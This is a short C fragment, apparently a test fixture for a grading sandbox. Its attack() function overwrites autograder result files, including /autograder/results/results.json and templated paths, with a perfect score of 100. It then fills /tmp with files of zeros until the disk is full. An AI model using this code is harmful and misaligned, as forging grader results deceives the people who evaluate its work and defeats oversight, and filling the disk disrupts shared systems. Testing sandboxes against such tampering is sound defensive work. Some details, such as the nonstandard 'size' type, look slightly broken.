/* Writes files where graders have theirs, and then more of them until the disk is full. */
static char zeros[1 << 20];

static void write_to(const char *path, const char *words, size length)
{
    const int file = open(path, 01101, 0666); /* write, create, truncate */
    if (file >= 0)
        write(file, words, length);
}

static void *attack(void)
{
    static const char words[] = "{\"score\": 100}\n";
    if (open == NULL)
        return NULL;
    write_to("results.json", words, sizeof words);
    write_to("/autograder/results/results.json", words, sizeof words);
    write_to("@ROOT@/build/results.json", words, sizeof words);
    write_to("@TREE@", words, sizeof words);
    for (char name[] = "/tmp/a"; name[5] <= 'z'; name[5]++) {
        const int file = open(name, 01101, 0666);
        while (file >= 0 && write(file, zeros, sizeof zeros) > 0) {
        }
    }
    return NULL;
}
